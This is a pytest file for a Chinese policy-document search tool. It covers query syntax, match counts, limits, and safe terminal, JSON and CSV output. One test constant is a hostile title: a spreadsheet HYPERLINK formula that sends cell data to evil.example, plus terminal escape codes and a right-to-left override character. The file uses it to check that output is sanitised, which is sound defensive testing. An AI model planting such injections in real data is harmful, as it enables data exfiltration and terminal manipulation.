"""Full-text search: the query language (AND, OR, phrases), the total count, JSON/CSV output,
limits, and titles that cannot drive the terminal (issue 15 finding 4, issue 13 findings 7–8)."""

from __future__ import annotations

import csv
import gzip
import io
import json
import subprocess
import sys
from pathlib import Path

import pytest

from zhengce.common.errors import UserError
from zhengce.corpus.loaders import load_path
from zhengce.corpus.search import fts_query, search, terminal_safe

FIX = Path(__file__).resolve().parents[1] / "fixtures" / "corpus"


def _cli(*args):
    return subprocess.run([sys.executable, "-m", "zhengce", *args], capture_output=True, text=True)


def test_query_language_to_fts():
    # several words: all of them (was: one phrase "产业政策 补贴", which finds nothing)
    assert fts_query("产业政策 补贴") == '"产业政策" AND "补贴"'
    # OR binds tighter than the implicit AND
    assert fts_query("产业政策 补贴 OR 补助") == '"产业政策" AND ("补贴" OR "补助")'
    assert fts_query("a OR b OR c") == '("a" OR "b" OR "c")'
    # a quoted phrase: its words adjacent, in order; “…” works too
    assert fts_query('"出口 退税" 增值税') == '"出口 退税" AND "增值税"'
    assert fts_query("“产业 政策”") == '"产业 政策"'
    # a word the index splits is matched as a phrase of its pieces
    assert fts_query("淘汰落后产能") == '"淘汰 落后 产能"'
    # OR without a term on both sides, and lower-case or, are the word "or"
    assert fts_query("OR 补贴") == '"or" AND "补贴"'
    assert fts_query("补贴 or 补助") == '"补贴" AND "or" AND "补助"'
    with pytest.raises(UserError, match="has no words to look for"):
        fts_query('"" -- 。')


def test_a_single_word_also_finds_the_compounds_that_contain_it():
    index = {"补贴": ["反补贴", "补贴", "财政补贴"]}
    assert fts_query("补贴 产业政策", index.get) == \
        '("反补贴" OR "补贴" OR "财政补贴") AND "产业政策"'
    # quoted: the whole word only
    assert fts_query('"补贴"', index.get) == '"补贴"'


@pytest.fixture
def loaded(store):
    load_path(store, FIX / "pkulaw_sample.csv", mapping="pkulaw", progress=False)
    load_path(store, FIX / "gbk_sample.csv", progress=False)
    return store


def test_and_or_and_total_on_the_fixture(loaded):
    # documents whose title or text contain the words (read off the fixture files):
    # 装备制造业: the State Council's and Zhejiang's opinions; 财政补贴: Zhejiang's only
    both = search(loaded, "装备制造业 财政补贴")
    assert [r["title"] for r in both.rows] == ["浙江省人民政府关于进一步加快发展装备制造业的若干意见"]
    assert both.total == 1
    either = search(loaded, "专项资金 OR 财政补贴", limit=1)
    assert either.total == 2 and len(either.rows) == 1   # the total is not the limit
    # 补贴 alone also finds 财政补贴 (one word in the index)
    assert search(loaded, "补贴").total == 1
    assert search(loaded, '"补贴"').total == 0


@pytest.mark.parametrize("limit", [0, -3, 100_001, 99999999999999999999])
def test_bad_limits_are_user_errors(loaded, limit):
    with pytest.raises(UserError, match=r"--limit .*: give a number of rows from 1 to 100,000"):
        search(loaded, "通知", limit=limit)


def test_cli_limit_overflow_is_one_line(tmp_path):
    db = str(tmp_path / "s.db")
    assert _cli("load", str(FIX / "pkulaw_sample.csv"), "--mapping", "pkulaw", "--db", db).returncode == 0
    res = _cli("search", "装备制造业", "--db", db, "--limit", "99999999999999999999")
    assert res.returncode == 2
    assert res.stderr.strip().splitlines() == [
        "Error: --limit 99999999999999999999: give a number of rows from 1 to 100,000 "
        "(the total count of matches is printed anyway)"]


HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"点击")\x1b[2J\x1b]0;pwned\x07\u202e标题'


@pytest.fixture
def hostile_db(tmp_path):
    src = tmp_path / "hostile.jsonl"
    rows = [{"id": "h1", "title": HOSTILE_TITLE, "text": "关于出口退税的通知。加强出口退税管理。"},
            {"id": "h2", "title": "关于增值税的通知", "text": "增值税专用发票管理。出口退税。"}]
    src.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in rows), encoding="utf-8")
    db = str(tmp_path / "h.db")
    res = _cli("load", str(src), "--db", db)
    assert res.returncode == 0, res.stderr
    # The ingest rejects a title with control characters (issue 13: a record is stored or
    # rejected), so the hostile title is put in place directly, as a database written before
    # that check (or by another tool) may hold it: the output must still be safe.
    import sqlite3

    with sqlite3.connect(db) as conn:
        assert "control character U+001B" in conn.execute("select reason from rejects").fetchone()[0]
        conn.execute("insert into documents (doc_id, source, source_id, title, text) "
                     "values ('hostile0000000h1', 'hostile', 'h1', ?, ?)", [HOSTILE_TITLE, rows[0]["text"]])
        conn.execute("insert into search_index (rowid, doc_id, title, body) select rowid, doc_id, "
                     "'点击 标题', '关于 出口 退税 的 通知 加强 出口 退税 管理' from documents "
                     "where doc_id = 'hostile0000000h1'")
    return db


def test_terminal_output_strips_control_characters(hostile_db):
    res = _cli("search", "出口退税", "--db", hostile_db)
    assert res.returncode == 0, res.stderr
    for bad in ("\x1b", "\x07", "\u202e"):
        assert bad not in res.stdout
    assert '=HYPERLINK("http://evil.example/?"&A1,"点击")[2J]0;pwned标题' in res.stdout
    assert res.stdout.splitlines()[-1] == "showing 2 of 2 result(s) for '出口退税'"
    assert terminal_safe("a\tb\nc\x00d\x9be") == "a b cde"


def test_json_output_keeps_the_title_escaped(hostile_db):
    res = _cli("search", "出口退税", "--db", hostile_db, "--json")
    assert res.returncode == 0, res.stderr
    assert "\x1b" not in res.stdout and "\\u001b[2J" in res.stdout
    data = json.loads(res.stdout)
    assert (data["total"], data["expression"]) == (2, '"出口 退税"')  # the index splits it
    assert HOSTILE_TITLE in {r["title"] for r in data["rows"]}   # the stored title, exact


def test_csv_output_defuses_formulas(hostile_db):
    res = _cli("search", "出口退税 增值税", "--db", hostile_db, "--csv")
    assert res.returncode == 0, res.stderr
    rows = list(csv.DictReader(io.StringIO(res.stdout)))
    assert [r["title"] for r in rows] == ["关于增值税的通知"]
    assert res.stderr.strip() == "showing 1 of 1 result(s) for '出口退税 增值税'"
    res = _cli("search", "出口退税", "--db", hostile_db, "--csv", "--limit", "5")
    titles = {r["title"] for r in csv.DictReader(io.StringIO(res.stdout))}
    assert "'" + HOSTILE_TITLE in titles    # not a live formula when opened in a spreadsheet
    assert _cli("search", "x", "--db", hostile_db, "--csv", "--json").stderr.strip() == \
        "Error: --json and --csv: choose one output format"


def test_help_explains_the_language_with_examples():
    res = _cli("search", "--help")
    text = " ".join(res.stdout.split())
    assert "Several words: documents with ALL of them" in text
    assert "A OR B (OR in capitals)" in text and "the exact phrase" in text
    assert 'zhengce search "产业政策 补贴 OR 补助" --json' in text


@pytest.mark.shared
@pytest.mark.slow
def test_lawrefbook_and_or_counts_match_a_scan_of_the_texts(lawrefbook_path, tmp_path):
    """Issue 15: "产业政策 补贴" found nothing although 41 laws contain both words."""
    from zhengce.corpus.store import Store

    both = either = 0
    with gzip.open(lawrefbook_path, "rt", encoding="utf-8") as fh:
        for line in fh:
            record = json.loads(line)
            text = (record.get("title") or "") + "\n" + (record.get("text") or "")
            has_policy = "产业政策" in text
            both += has_policy and "补贴" in text
            either += has_policy and ("补贴" in text or "补助" in text)
    store = Store.open(tmp_path / "lrb.db")
    load_path(store, lawrefbook_path, progress=False)
    assert search(store, "产业政策 补贴", limit=5).total == both
    assert search(store, "产业政策 补贴 OR 补助", limit=5).total == either
    assert (both, either) == (41, 60)
    store.close()
